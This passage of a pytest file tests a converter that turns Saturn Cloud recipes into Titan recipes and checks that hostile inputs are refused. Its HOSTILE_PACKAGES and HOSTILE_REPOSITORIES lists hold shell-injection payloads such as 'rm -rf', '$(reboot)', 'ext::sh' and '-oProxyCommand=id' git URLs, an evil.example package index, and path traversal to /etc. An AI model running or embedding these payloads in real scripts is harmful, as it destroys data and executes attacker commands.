"""Saturn Cloud recipes into Titan recipes: both schemas, every field reported, refusals
named (or dropped with --lenient), nothing hostile ever reaching a start script unquoted,
and every recipe made passing Titan's own validation."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from service.config import DEFAULT_INSTANCE_TYPES, Settings
from service.recipes.importers import Conversion, ImportRefused, convert
from service.recipes.models import RecipeInvalid, parse_recipe

SIZES = {"medium": "cpu-medium", "large": "cpu-large", "xlarge": "cpu-large", "g4dnxlarge": "gpu-1"}

# The 2022 schema, as saturncloud/recipes' example and Saturn's "Download Recipe" wrote it.
WORKSPACE_2022: dict[str, Any] = {
    "name": "Demo",
    "description": "A demonstration of the saturn.json schema",
    "image": {"owner": "saturncloud", "name": "saturn", "version": "2022.05.01"},
    "extra_packages": {"pip": {"install": "xgboost dask[dataframe]>=2024.1,<2025"}},
    "environment_variables": {"VAR1": "VALUE1", "VAR2": "VALUE2"},
    "working_directory": "/home/jovyan/workspace",
    "start_script": "echo setting up",
    "jupyter_server": {
        "instance_type": "xlarge",
        "start_ssh": False,
        "disk_space": "10Gi",
        "auto_shutoff": "1 hour",
        "use_spot_instance": False,
        "self_destruct": False,
        "start_dind": False,
    },
    "dask_cluster": {
        "num_workers": 3,
        "scheduler": {"instance_type": "medium"},
        "worker": {"instance_type": "xlarge", "use_spot_instances": True},
    },
    "git_repositories": [
        {
            "url": "https://github.com/saturncloud/examples.git",
            "path": "/home/jovyan/workspace/examples",
            "public": True,
            "on_restart": "preserve changes",
            "reference_type": "branch",
            "reference": "main",
        }
    ],
    "secrets": [
        {
            "name": "aws-credentials",
            "owner": "ml",
            "type": "file",
            "location": "/home/jovyan/.aws/credentials",
            "description": "read-only S3",
        },
        {"name": "db-password", "type": "environment_variable", "location": "DB_PASSWORD"},
    ],
    "shared_folders": [{"owner": "ml", "name": "datasets", "path": "/data"}],
    "visibility": "owner",
    "schema_version": "2022.08.01",
}
JOB_2022: dict[str, Any] = {
    "name": "nightly-etl",
    "image_uri": "public.ecr.aws/saturncloud/saturn:2022.04.01",
    "owner": "spierre91",
    "environment_variables": {},
    "working_directory": "/home/jovyan/workspace",
    "start_script": "",
    "git_repositories": [],
    "secrets": [],
    "job": {
        "instance_type": "large",
        "command": "python etl.py --date today",
        "schedule": "0 2 * * *",
        "backoff_limit": 3,
        "concurrency_policy": "Forbid",
    },
    "dask_cluster": {
        "num_workers": 2,
        "scheduler": {"instance_type": "medium"},
        "worker": {"instance_type": "large", "num_processes": 2, "num_threads": 2},
    },
    "visibility": "owner",
    "schema_version": "2022.06.01",
}
DEPLOYMENT_2022: dict[str, Any] = {
    "name": "dashboard",
    "image": {"owner": "saturncloud", "name": "saturn", "version": "2022.05.01"},
    "deployment": {
        "instance_type": "medium",
        "command": "python -m panel serve app.py --port 8000",
        "instance_count": 2,
        "start_ssh": False,
        "subdomain": "sales-dashboard",
        "public": True,
    },
    "schema_version": "2022.08.01",
}
# The current schema (2025.10.01), as Saturn's API and its recipe downloads write it.
WORKSPACE_2025: dict[str, Any] = {
    "schema_version": "2025.10.01",
    "type": "workspace",
    "spec": {
        "name": "gpu-notebook",
        "owner": {"name": "ml"},
        "description": "GPU notebook with a Dask cluster",
        "tags": {"team": "ml"},
        "image": {"name": "saturncloud/saturn-python-pytorch", "version": "2024.08.01"},
        "instance_type": "g4dnxlarge",
        "environment_variables": {"DASK_DISTRIBUTED__WORKER__DAEMON": "False"},
        "working_directory": "/home/jovyan/workspace",
        "extra_packages": {"pip": {"install": "lightgbm"}, "apt": {"install": "htop"}},
        "start_script": "",
        "dask_cluster": {
            "num_workers": 2,
            "scheduler": {"instance_type": "medium"},
            "worker": {"instance_type": "g4dnxlarge", "num_processes": 1},
        },
        "git_repositories": [
            {"url": "https://github.com/saturncloud/examples", "reference_type": "tag",
             "reference": "v1.0", "on_restart": "reclone", "public": True},
        ],
        "secrets": [
            {"location": "HF_TOKEN", "attachment_type": "environment_variable",
             "owner": "ml", "name": "hf-token", "description": ""},
        ],
        "shared_folders": [{"owner": "ml", "name": "models"}],
        "ide": "jupyter",
        "disk_space": "64Gi",
        "auto_shutoff": "6 hours",
        "start_ssh": True,
        "use_spot_instance": False,
        "routes": [{"subdomain": "tb", "container_port": 6006, "visibility": "owner"}],
        "self_destruct": False,
    },
    "state": {"id": "30ea539fdef64274a9a777ada32535ae", "status": "running"},
}  # fmt: skip
JOB_2025: dict[str, Any] = {
    "schema_version": "2025.10.01",
    "type": "job",
    "spec": {
        "name": "train-xgboost",
        "image": "saturncloud/saturn-python:2024.08.01",
        "instance_type": "large",
        "command": ["python", "train.py", "--rounds", "100"],
        "scale": 1,
        "schedule": "0 3 * * 1",
        "concurrency_policy": "Replace",
        "retries": 2,
        "token_scope": "job:train-xgboost:dask:write",
        "dask_cluster": {
            "num_workers": 4,
            "scheduler": {"instance_type": "medium"},
            "worker": {"instance_type": "large"},
        },
    },
}
DEPLOYMENT_2025: dict[str, Any] = {
    "schema_version": "2025.10.01",
    "type": "deployment",
    "spec": {
        "name": "serve-model",
        "image": {"uri": "public.ecr.aws/saturncloud/saturn-python:2024.08.01"},
        "instance_type": "large",
        "command": "uvicorn app:app --host 0.0.0.0 --port 8000",
        "scale": 3,
        "routes": [{"subdomain": "model", "container_port": 8000, "visibility": "org"}],
        "viewers": [{"identity": "team"}],
        "dask_cluster": {
            "num_workers": 2,
            "scheduler": {"instance_type": "medium"},
            "worker": {"instance_type": "large"},
        },
    },
}
REALISTIC = {
    "workspace-2022": WORKSPACE_2022,
    "job-2022": JOB_2022,
    "deployment-2022": DEPLOYMENT_2022,
    "workspace-2025": WORKSPACE_2025,
    "job-2025": JOB_2025,
    "deployment-2025": DEPLOYMENT_2025,
}


def lenient(document: Any, sizes: dict[str, str] | None = None) -> Conversion:
    return convert(document, SIZES if sizes is None else sizes, DEFAULT_INSTANCE_TYPES, True)


def refused(document: Any, sizes: dict[str, str] | None = None) -> dict[str, dict[str, Any]]:
    with pytest.raises(ImportRefused) as info:
        convert(document, SIZES if sizes is None else sizes, DEFAULT_INSTANCE_TYPES)
    return {p["path"]: p for p in info.value.problems}


def rows(conversion: Conversion) -> dict[str, Any]:
    return {row.field: row for row in conversion.report}


def field_paths(document: dict[str, Any]) -> list[str]:
    """Every field a user wrote, down to the children of ``spec`` and resource sections."""
    found = []
    for key, value in document.items():
        if key != "spec":
            found.append(key)
        if key in ("spec", "jupyter_server", "job", "deployment") and isinstance(value, dict):
            found += [f"{key}.{child}" for child in value]
    return found


@pytest.mark.parametrize("name", REALISTIC)
def test_every_field_is_reported_and_every_recipe_is_valid(name: str) -> None:
    document = REALISTIC[name]
    made = lenient(document)
    reported = [row.field for row in made.report]
    for path in field_paths(document):
        assert any(r == path or r.startswith((f"{path}.", f"{path}[")) for r in reported), path
    for recipe in made.recipes:
        parse_recipe(recipe, DEFAULT_INSTANCE_TYPES)  # raises if Titan would not take it
        assert "owner" not in recipe  # Saturn's owner need not exist in Titan
    assert all(row.outcome != "refused" for row in made.report)


def test_a_2022_workspace_with_its_dask_cluster() -> None:
    made = convert(WORKSPACE_2022, SIZES, DEFAULT_INSTANCE_TYPES)  # nothing refused: strict
    (recipe,) = made.recipes
    assert recipe["type"] == "workspace" and recipe["name"] == "demo"
    spec = recipe["spec"]
    assert spec["instance_type"] == "cpu-large" and spec["auto_shutoff"] == "1h"
    assert spec["dask_cluster"] == {
        "n_workers": 3,
        "scheduler": {"memory": "8GiB"},
        "worker": {"nthreads": 4, "memory": "16GiB", "gpu": 0},
    }
    assert spec["environment_variables"] == {"VAR1": "VALUE1", "VAR2": "VALUE2"}
    assert spec["secrets"] == [
        {"name": "aws-credentials", "owner": "ml", "file": "credentials"},
        {"name": "db-password", "env": "DB_PASSWORD"},
    ]
    assert spec["folders"] == [{"name": "datasets", "owner": "ml", "path": "/data"}]
    assert "working_directory" not in spec and "image" not in spec
    found = rows(made)
    assert found["name"].outcome == "translated" and "lower-case" in found["name"].why
    assert found["environment_variables.VAR1"].outcome == "kept"
    assert found["jupyter_server.instance_type"].titan == "spec.instance_type"
    assert "TITAN_SATURN_INSTANCE_TYPES" in found["jupyter_server.instance_type"].why
    assert found["jupyter_server.disk_space"].outcome == "dropped"
    assert found["image"].outcome == "dropped" and "saturncloud/saturn:2022.05.01" in (
        found["image"].why
    )
    assert found["secrets[0].description"].outcome == "dropped"
    assert "$TITAN_SECRETS_DIR/credentials" in found["secrets[0]"].why
    assert found["extra_packages.pip"].titan == "spec.start_script"
    assert "start script" in found["git_repositories[0]"].why


def test_the_start_script_comes_after_the_recipes_own_and_says_where_from() -> None:
    script = convert(WORKSPACE_2022, SIZES, DEFAULT_INSTANCE_TYPES).recipes[0]["spec"][
        "start_script"
    ]
    lines = script.splitlines()
    assert lines[0] == "echo setting up"
    assert lines[1] == "# from extra_packages and git_repositories (titan import saturn)"
    assert lines[2].endswith("-- xgboost 'dask[dataframe]>=2024.1,<2025'")
    assert lines[3] == (
        "[ -d examples/.git ] || git clone --branch main -- "
        "https://github.com/saturncloud/examples.git examples"
    )


def test_the_generated_script_runs_exactly_the_programs_and_arguments_meant(
    tmp_path: Path,
) -> None:
    """Run the script with stand-ins for git and Python that record their arguments."""
    record = tmp_path / "calls"
    stand_in = tmp_path / "bin"
    stand_in.mkdir()
    for program in ("git", "python"):
        script = stand_in / program
        script.write_text(f'#!/bin/sh\nprintf "%s\\n" "{program}" "$@" "--end--" >> {record}\n')
        script.chmod(0o755)
    spec = lenient(WORKSPACE_2025).recipes[0]["spec"]
    env = {
        **os.environ,
        "PATH": f"{stand_in}:/usr/bin:/bin",
        "TITAN_PYTHON": str(stand_in / "python"),
    }
    subprocess.run(["/bin/sh", "-ec", spec["start_script"]], cwd=tmp_path, env=env, check=True)
    calls = record.read_text().split("--end--\n")
    assert calls[0].split("\n")[:-1] == [
        "python", "-m", "pip", "install", "--no-input", "--disable-pip-version-check", "--",
        "lightgbm",
    ]  # fmt: skip
    assert calls[1].split("\n")[:-1] == [
        "git", "clone", "--branch", "v1.0", "--", "https://github.com/saturncloud/examples",
        "examples",
    ]  # fmt: skip


def test_a_2022_job_keeps_its_schedule_and_policy_and_its_backoff_limit_becomes_retries() -> None:
    made = convert(JOB_2022, SIZES, DEFAULT_INSTANCE_TYPES)  # nothing refused: strict
    (job,) = made.recipes
    assert job["type"] == "job" and job["spec"]["command"] == "python etl.py --date today"
    spec = job["spec"]
    assert (spec["schedule"], spec["concurrency_policy"], spec["retries"]) == (
        "0 2 * * *",
        "Forbid",
        3,
    )
    assert "timezone" not in spec  # Saturn gives none: Titan's default, UTC
    # two processes per Saturn worker machine: a Titan worker each, with half the machine
    assert spec["dask_cluster"] == {
        "n_workers": 4,
        "scheduler": {"memory": "8GiB"},
        "worker": {"nthreads": 2, "memory": "8192MiB", "gpu": 0},
    }
    found = rows(made)
    assert (found["job.schedule"].outcome, found["job.schedule"].titan) == (
        "kept",
        "spec.schedule",
    )
    assert "UTC" in found["job.schedule"].why
    assert "overlap" not in found["job.schedule"].why  # the policy is given: nothing changes
    assert (found["job.backoff_limit"].outcome, found["job.backoff_limit"].titan) == (
        "translated",
        "spec.retries",
    )
    assert found["job.concurrency_policy"].outcome == "kept"
    assert found["owner"].outcome == "dropped" and found["secrets"].why == "empty"


def test_a_2025_job_keeps_schedule_policy_and_retries() -> None:
    made = convert(JOB_2025, SIZES, DEFAULT_INSTANCE_TYPES)
    spec = made.recipes[0]["spec"]
    assert (spec["schedule"], spec["concurrency_policy"], spec["retries"]) == (
        "0 3 * * 1",
        "Replace",
        2,
    )
    found = rows(made)
    assert [found[f"spec.{k}"].outcome for k in ("schedule", "concurrency_policy", "retries")] == [
        "kept"
    ] * 3


def job(**fields: Any) -> dict[str, Any]:
    return {"schema_version": "2025.10.01", "type": "job",
            "spec": {"name": "j", "command": "true", **fields}}  # fmt: skip


def test_each_concurrency_policy_is_kept_and_an_unknown_one_refused() -> None:
    for policy in ("Allow", "Forbid", "Replace"):
        made = convert(
            job(schedule="*/5 * * * *", concurrency_policy=policy), SIZES, DEFAULT_INSTANCE_TYPES
        )
        assert made.recipes[0]["spec"]["concurrency_policy"] == policy
        assert rows(made)["spec.concurrency_policy"].outcome == "kept"
    assert (
        "started alongside"
        in rows(
            made_allow := convert(job(concurrency_policy="Allow"), SIZES, DEFAULT_INSTANCE_TYPES)
        )["spec.concurrency_policy"].why
    )
    assert made_allow.recipes[0]["spec"]["concurrency_policy"] == "Allow"
    assert refused(job(concurrency_policy="Sometimes"))["spec.concurrency_policy"][
        "message"
    ].startswith("not one of Saturn's policies")


def test_a_2022_job_without_backoff_limit_says_saturn_retried_where_titan_does_not() -> None:
    plain = {"name": "j", "job": {"command": "true"}, "schema_version": "2022.06.01"}
    found = rows(convert(plain, SIZES, DEFAULT_INSTANCE_TYPES))
    assert "Saturn's 2022 schema retried a failed run 3 times" in found["job.command"].why
    assert (
        "retried" not in rows(convert(JOB_2022, SIZES, DEFAULT_INSTANCE_TYPES))["job.command"].why
    )  # its backoff_limit is given
    assert "retried" not in rows(convert(job(), SIZES, DEFAULT_INSTANCE_TYPES))["spec.command"].why


def test_a_schedule_without_a_policy_says_saturn_overlapped_where_titan_skips() -> None:
    # Saturn's 2022 schema defaults concurrency_policy to Allow; Titan's default is Forbid.
    found = rows(convert(job(schedule="0 2 * * *"), SIZES, DEFAULT_INSTANCE_TYPES))
    assert "Saturn let runs overlap (Allow)" in found["spec.schedule"].why


def test_cron_shorthands_become_five_fields_and_a_bad_schedule_is_refused_by_titans_rules() -> None:
    made = convert(job(schedule="@daily"), SIZES, DEFAULT_INSTANCE_TYPES)
    assert made.recipes[0]["spec"]["schedule"] == "0 0 * * *"
    assert rows(made)["spec.schedule"].outcome == "translated"
    message = refused(job(schedule="0 2 * *"))["spec.schedule"]["message"]
    assert "Titan's spec.schedule: " in message and "5-field cron" in message
    assert "cron expression, as text" in refused(job(schedule=5))["spec.schedule"]["message"]


def test_retries_must_be_whole_numbers_titan_takes_and_only_jobs_have_them() -> None:
    for bad in (True, 2.0, "2", -1, 101):
        assert "spec.retries" in refused(job(retries=bad)), bad
    assert refused(job(retries=101))["spec.retries"]["message"].startswith("Titan's spec.retries")
    workspace = {"type": "workspace", "spec": {"name": "w", "schedule": "0 2 * * *", "retries": 2}}
    problems = refused(workspace)
    assert problems["spec.schedule"]["message"] == "only a Titan job has a schedule"
    assert problems["spec.retries"]["message"] == "only a Titan job has retries"


def test_the_refusal_names_every_field_and_the_way_out() -> None:
    with pytest.raises(ImportRefused) as info:
        convert(WORKSPACE_2025, SIZES, DEFAULT_INSTANCE_TYPES)
    paths = [p["path"] for p in info.value.problems]
    assert paths == ["spec.extra_packages.apt", "spec.start_ssh", "spec.routes"]
    assert "bake them into an image" in info.value.problems[0]["message"]
    assert all(p in str(info.value) for p in paths)
    assert any(row.outcome == "kept" for row in info.value.report)


def test_a_2025_deployment_becomes_a_deployment_and_its_dask_cluster_stands_alone() -> None:
    problems = refused(DEPLOYMENT_2025)
    assert set(problems) == {"spec.viewers"}  # Titan lets callers in by visibility only
    assert "not by a list of viewers" in problems["spec.viewers"]["message"]
    without_viewers = {**DEPLOYMENT_2025, "spec": {**DEPLOYMENT_2025["spec"]}}
    del without_viewers["spec"]["viewers"]
    made = convert(without_viewers, SIZES, DEFAULT_INSTANCE_TYPES)  # strict: nothing refused
    assert made.recipes == [
        {
            "schema_version": 1,
            "type": "deployment",
            "name": "serve-model",
            "spec": {
                "command": "uvicorn app:app --host ${TITAN_BIND_HOST} --port ${PORT}",
                "instance_type": "cpu-large",
                "scale": 3,
                "routes": [{"path": "/", "visibility": "account"}],
            },
        },
        {
            "schema_version": 1,
            "type": "cluster",
            "name": "serve-model-dask",
            "spec": {
                "n_workers": 2,
                "scheduler": {"memory": "8GiB"},
                "worker": {"nthreads": 4, "memory": "16GiB", "gpu": 0},
            },
        },
    ]
    found = rows(made)
    assert (found["type"].outcome, found["type"].titan) == ("kept", "type")
    command = found["spec.command"]
    assert (command.outcome, command.titan) == ("translated", "spec.command")
    assert "8000 → ${PORT}, 0.0.0.0 → ${TITAN_BIND_HOST}" in command.why
    assert "Titan sends GET / to each replica" in command.why  # no healthcheck given
    assert (found["spec.scale"].outcome, found["spec.scale"].titan) == ("kept", "spec.scale")
    visibility = found["spec.routes[0].visibility"]
    assert (visibility.outcome, visibility.titan) == ("translated", "spec.routes")
    assert "'org'" in visibility.why and "any signed-in user" in visibility.why
    assert found["spec.routes[0].subdomain"].outcome == "dropped"
    assert "/deploy/<owner>/<name>/" in found["spec.routes[0].subdomain"].why
    assert found["spec.routes[0].container_port"].titan == "spec.command"
    assert found["spec.dask_cluster"].titan == "cluster:"
    assert "TitanCluster.from_name" in found["spec.dask_cluster"].why
    assert found["spec.dask_cluster.num_workers"].titan == "cluster:spec.n_workers"
    dropped = rows(lenient(DEPLOYMENT_2025))["spec.viewers"]
    assert dropped.outcome == "dropped" and dropped.why.endswith("(dropped: --lenient)")


def test_a_2022_deployment_its_instances_public_flag_and_subdomain() -> None:
    made = convert(DEPLOYMENT_2022, SIZES, DEFAULT_INSTANCE_TYPES)
    assert made.recipes == [
        {
            "schema_version": 1,
            "type": "deployment",
            "name": "dashboard",
            "spec": {
                "command": "python -m panel serve app.py --port ${PORT}",
                "instance_type": "cpu-medium",
                "scale": 2,
                "routes": [{"path": "/", "visibility": "public"}],
            },
        }
    ]
    found = rows(made)
    assert (found["deployment"].outcome, found["deployment"].titan) == ("kept", "type")
    assert found["deployment.instance_count"].titan == "spec.scale"
    assert found["deployment.instance_count"].outcome == "translated"
    assert found["deployment.public"].titan == "spec.routes"
    assert "anyone, without a token" in found["deployment.public"].why
    assert found["deployment.subdomain"].outcome == "dropped"
    assert found["deployment.start_ssh"].outcome == "dropped"
    assert "it names no address" in found["deployment.command"].why  # panel's own default
    private = {**DEPLOYMENT_2022, "deployment": {**DEPLOYMENT_2022["deployment"]}}
    del private["deployment"]["public"]  # Saturn's default: any signed-in user
    (recipe,) = convert(private, SIZES, DEFAULT_INSTANCE_TYPES).recipes
    assert recipe["spec"]["routes"] == [{"path": "/", "visibility": "account"}]
    said = rows(convert(private, SIZES, DEFAULT_INSTANCE_TYPES))["deployment.command"].why
    assert "with no routes, spec.routes is / for any signed-in user" in said
    (recipe,) = convert(deployment(routes=[]), SIZES, DEFAULT_INSTANCE_TYPES).recipes
    assert recipe["spec"]["routes"] == [{"path": "/", "visibility": "account"}]
    private["deployment"]["public"] = False
    (recipe,) = convert(private, SIZES, DEFAULT_INSTANCE_TYPES).recipes
    assert recipe["spec"]["routes"] == [{"path": "/", "visibility": "account"}]


def deployment(command: str = "gunicorn -b 0.0.0.0:8000 app:app", **spec: Any) -> dict[str, Any]:
    return {"schema_version": "2025.10.01", "type": "deployment",
            "spec": {"name": "d", "command": command, **spec}}  # fmt: skip


@pytest.mark.parametrize(
    ("saturn", "titan"),
    [("owner", "owner"), ("org", "account"), ("account", "account"),
     ("unauthenticated", "public"), (None, "account")],
)  # fmt: skip
def test_each_saturn_visibility_is_a_titan_one(saturn: str | None, titan: str) -> None:
    route: dict[str, Any] = {"subdomain": "x", "container_port": 8000}
    if saturn is not None:
        route["visibility"] = saturn
    (recipe,) = convert(deployment(routes=[route]), SIZES, DEFAULT_INSTANCE_TYPES).recipes
    assert recipe["spec"]["routes"] == [{"path": "/", "visibility": titan}]


def test_an_unknown_visibility_a_second_route_and_a_bad_port_are_refused() -> None:
    problems = refused(deployment(routes=[{"container_port": 8000, "visibility": "world"}]))
    assert "not one of Saturn's visibilities" in problems["spec.routes[0].visibility"]["message"]
    two = [{"container_port": 8000, "visibility": "org"}, {"container_port": 9000}]
    problems = refused(deployment(routes=two))
    assert set(problems) == {"spec.routes[1]"}
    assert "one URL, from one port of each replica" in problems["spec.routes[1]"]["message"]
    (recipe,) = lenient(deployment(routes=two)).recipes
    assert recipe["spec"]["routes"] == [{"path": "/", "visibility": "account"}]
    for port in (0, 70000, "8000", True):
        problems = refused(deployment(routes=[{"container_port": port}]))
        assert "spec.routes[0].container_port" in problems, port
    problems = refused(deployment(routes=[{"container_port": 8000, "path": "/x"}]))
    assert "not a Saturn route field" in problems["spec.routes[0].path"]["message"]
    assert "a list of routes" in refused(deployment(routes={"a": 1}))["spec.routes"]["message"]


PROGRAMS = ("uvicorn", "gunicorn", "streamlit", "python", "echo")


@pytest.mark.parametrize(
    ("command", "port", "titan"),
    [
        ("uvicorn app:app --host 0.0.0.0 --port 8000", 8000,
         "uvicorn app:app --host ${TITAN_BIND_HOST} --port ${PORT}"),
        ('gunicorn -b "0.0.0.0:8000" app:app', 8000,
         'gunicorn -b "${TITAN_BIND_HOST}:${PORT}" app:app'),
        ("streamlit run app.py --server.port=8080 --server.address=0.0.0.0", 8080,
         "streamlit run app.py --server.port=${PORT} --server.address=${TITAN_BIND_HOST}"),
        ("python serve.py 8000 --workers 18000 --v 8000.1", 8000,
         "python serve.py ${PORT} --workers 18000 --v 8000.1"),
        ("echo '0.0.0.0 8000' && python app.py --port 8000", 8000,
         "echo '0.0.0.0 8000' && python app.py --port ${PORT}"),
    ],
)  # fmt: skip
def test_the_command_listens_on_port_where_it_named_saturns(
    command: str, port: int, titan: str
) -> None:
    document = deployment(command, routes=[{"container_port": port, "visibility": "owner"}])
    (recipe,) = convert(document, SIZES, DEFAULT_INSTANCE_TYPES).recipes
    assert recipe["spec"]["command"] == titan
    # What the shell makes of it: the variables expand where Saturn's values stood (each
    # program here a function printing its arguments).
    programs = "".join(f"{p}() {{ printf '%s\\n' \"$@\"; }}; " for p in PROGRAMS)
    env = {"PORT": "40123", "TITAN_BIND_HOST": "127.0.0.2", "PATH": os.environ["PATH"]}
    shown = subprocess.run(
        ["sh", "-c", programs + titan], env=env, capture_output=True, text=True, check=True
    ).stdout.split()
    assert "${PORT}" not in " ".join(shown)
    assert "40123" in shown or any(s.endswith((":40123", "=40123")) for s in shown)


def test_a_command_showing_no_port_is_refused_or_kept_as_it_is_with_lenient() -> None:
    for command in ("python app.py", "python -c 'serve(port=8000)'", "sleep 80000"):
        problems = refused(deployment(command))
        message = problems["spec.command"]["message"]
        assert "shows no port 8000" in message and "--port $PORT" in message, command
        (recipe,) = lenient(deployment(command)).recipes
        assert recipe["spec"]["command"] == command
        row = rows(lenient(deployment(command)))["spec.command"]
        assert row.outcome == "kept" and row.why.startswith("kept as it is (--lenient)")
    assert "is text" in refused(deployment(["python", "app.py"]))["spec.command"]["message"]  # type: ignore[arg-type]
    no_command = {"type": "deployment", "spec": {"name": "d"}}
    assert "a Saturn deployment runs a command" in refused(no_command)["command"]["message"]


def test_a_healthcheck_path_is_the_health_check_and_scale_is_checked() -> None:
    (recipe,) = convert(deployment(healthcheck="/healthz", scale=2), SIZES,
                        DEFAULT_INSTANCE_TYPES).recipes  # fmt: skip
    assert recipe["spec"]["health_check"] == {"path": "/healthz"}
    assert recipe["spec"]["scale"] == 2
    found = rows(convert(deployment(healthcheck="/healthz"), SIZES, DEFAULT_INSTANCE_TYPES))
    assert found["spec.healthcheck"].titan == "spec.health_check.path"
    assert "GET /" not in found["spec.command"].why  # it has its own check
    assert "spec.healthcheck" in refused(deployment(healthcheck="no slash"))
    assert "spec.healthcheck" in refused(deployment(healthcheck=3))
    for bad in (0, 101, True, "2", 1.5):
        assert "spec.scale" in refused(deployment(scale=bad)), bad
    (one,) = convert(deployment(scale=1), SIZES, DEFAULT_INSTANCE_TYPES).recipes
    assert one["spec"]["scale"] == 1  # a deployment's scale 1 is kept, not dropped


def test_deployment_fields_elsewhere_are_refused_saying_why() -> None:
    job = {"schema_version": "2025.10.01", "type": "job",
           "spec": {"name": "j", "command": "true", "scale": 2, "viewers": [],
                    "healthcheck": "/"}}  # fmt: skip
    problems = refused(job)
    assert "runs one copy of its command" in problems["spec.scale"]["message"]
    assert "spec.healthcheck" in problems and "spec.viewers" not in problems  # empty: dropped
    workspace = {"type": "workspace", "spec": {"name": "w", "subdomain": "nb",
                 "routes": [{"container_port": 6006}], "public": True}}  # fmt: skip
    problems = refused(workspace)
    assert set(problems) == {"spec.routes", "spec.public"}
    assert "serves JupyterLab only" in problems["spec.routes"]["message"]
    assert rows(lenient(workspace))["spec.subdomain"].outcome == "dropped"


def test_values_titan_does_anyway_are_dropped_not_refused() -> None:
    document = {"schema_version": "2025.10.01", "type": "job",
                "spec": {"name": "j", "command": "true", "scale": 1, "retries": 0,
                         "start_ssh": False, "schedule": None}}  # fmt: skip
    found = rows(convert(document, SIZES, DEFAULT_INSTANCE_TYPES))
    assert [found[f"spec.{k}"].outcome for k in ("scale", "retries", "start_ssh", "schedule")] == [
        "dropped"
    ] * 4


def test_an_unmapped_size_is_refused_naming_the_setting_or_leaves_titans_default() -> None:
    problems = refused(JOB_2025, sizes={"medium": "cpu-medium"})
    message = problems["spec.instance_type"]["message"]
    assert "'large'" in message and "TITAN_SATURN_INSTANCE_TYPES" in message
    assert "spec.dask_cluster.worker.instance_type" in problems
    made = lenient(JOB_2025, sizes={})
    spec = made.recipes[0]["spec"]
    assert "instance_type" not in spec and spec["dask_cluster"] == {"n_workers": 4}
    assert "Titan's default size applies" in rows(made)["spec.instance_type"].why


def test_rstudio_ssh_conda_and_unknown_fields_are_refused() -> None:
    document = {
        "name": "r",
        "rstudio_server": {"instance_type": "large", "start_ssh": True},
        "extra_packages": {"conda": {"install": "r-base"}, "cran": {"install": "dplyr"}},
        "colour": "blue",
        "schema_version": "2022.08.01",
    }
    problems = refused(document)
    assert set(problems) == {
        "rstudio_server",
        "rstudio_server.start_ssh",
        "extra_packages.conda",
        "extra_packages.cran",
        "colour",
    }
    assert "check the spelling" in problems["colour"]["message"]
    assert lenient(document).recipes[0]["type"] == "workspace"


def test_older_2022_names_are_read_too() -> None:
    document = {
        "name": "old",
        "image_uri": "saturncloud/saturn:2021.11.10",
        "extra_packages": {"pip": "lightgbm"},
        "credentials": [{"name": "token", "type": "environment_variable", "location": "TOKEN"}],
        "jupyter_server": {"instance_type": "large"},
        "version": "2021.11.10",
    }
    made = convert(document, SIZES, DEFAULT_INSTANCE_TYPES)
    spec = made.recipes[0]["spec"]
    assert spec["secrets"] == [{"name": "token", "env": "TOKEN"}]
    assert "lightgbm" in spec["start_script"]
    assert rows(made)["version"].titan == "schema_version"


HOSTILE_PACKAGES = [
    "numpy; rm -rf ~",
    "$(reboot)",
    "`id`",
    "--index-url=https://evil.example/simple numpy",
    "git+https://github.com/x/y.git",
    "pkg>1|sh",
    "numpy\nrm -rf /",
    "../../etc/passwd",
    "name@https://evil.example/x.whl",
]
HOSTILE_REPOSITORIES = [
    {"url": "https://github.com/a/b.git; rm -rf /"},
    {"url": "https://github.com/a/$(id).git"},
    {"url": "https://user:secret@github.com/a/b.git"},
    {"url": "http://github.com/a/b.git"},
    {"url": "file:///etc"},
    {"url": "ext::sh -c touch% /tmp/pwned"},
    {"url": "git@github.com:a/b.git"},
    {"url": "https://github.com/a/b.git", "path": "/etc/cron.d"},
    {"url": "https://github.com/a/b.git", "path": "/home/jovyan/workspace/../../etc"},
    {"url": "https://github.com/a/b.git", "path": "-rf"},
    {"url": "https://github.com/a/b.git", "reference": "main; id"},
    {"url": "https://github.com/a/b.git", "reference": "--upload-pack=touch /tmp/x"},
    {"url": "https://github.com/a/b.git", "reference_type": "commit", "reference": "HEAD~1"},
    {"url": "https://github.com/a/b.git?x=$(id)"},
    {"url": "https://-oProxyCommand=id/x.git"},
]


@pytest.mark.parametrize("packages", HOSTILE_PACKAGES)
def test_shell_text_in_pip_packages_is_refused_and_never_scripted(packages: str) -> None:
    document = {"name": "h", "job": {"command": "true"}, "schema_version": "2022.08.01",
                "extra_packages": {"pip": {"install": packages}}}  # fmt: skip
    assert "extra_packages.pip" in refused(document)
    assert "start_script" not in lenient(document).recipes[0]["spec"]


@pytest.mark.parametrize("repository", HOSTILE_REPOSITORIES, ids=lambda r: json.dumps(r))
def test_unsafe_git_repositories_are_refused_and_never_scripted(repository: dict[str, str]) -> None:
    document = {"name": "h", "job": {"command": "true"}, "schema_version": "2022.08.01",
                "git_repositories": [repository]}  # fmt: skip
    message = refused(document)["git_repositories[0]"]["message"]
    assert message.startswith("not cloned by a start script")
    assert "start_script" not in lenient(document).recipes[0]["spec"]


def test_an_ssh_url_is_refused_with_its_https_form() -> None:
    ssh = {"url": "git@github.com:saturncloud/examples.git"}
    document = {"name": "h", "job": {"command": "true"}, "git_repositories": [ssh]}
    message = refused(document)["git_repositories[0]"]["message"]
    assert "https://github.com/saturncloud/examples.git" in message


def test_safe_values_with_shell_characters_are_quoted() -> None:
    document = {"name": "q", "job": {"command": "true"}, "schema_version": "2022.08.01",
                "extra_packages": {"pip": {"install": "a>1 b<2 c[x]~=1.*"}},
                "git_repositories": [{"url": "https://example.org/team/repo", "path": "code/r",
                                      "on_restart": "reclone"}]}  # fmt: skip
    script = convert(document, SIZES, DEFAULT_INSTANCE_TYPES).recipes[0]["spec"]["start_script"]
    pip, git = script.splitlines()[1:]
    assert shlex.split(pip)[-3:] == ["a>1", "b<2", "c[x]~=1.*"]
    assert "'a>1' 'b<2' 'c[x]~=1.*'" in pip
    assert shlex.split(git) == ["rm", "-rf", "--", "code/r", "&&", "git", "clone", "--",
                                "https://example.org/team/repo", "code/r"]  # fmt: skip


def test_hostile_values_are_refused_with_titans_reason() -> None:
    document = {
        "schema_version": "2025.10.01",
        "type": "workspace",
        "spec": {
            "name": "h",
            "environment_variables": {
                "OK": "fine",
                "LONE": "\ud800",
                "NUL": "a\x00b",
                "TITAN_TOKEN": "mine",
                "1BAD": "x",
            },
            "dask_cluster": {"num_workers": 10**30, "worker": {"instance_type": "large"}},
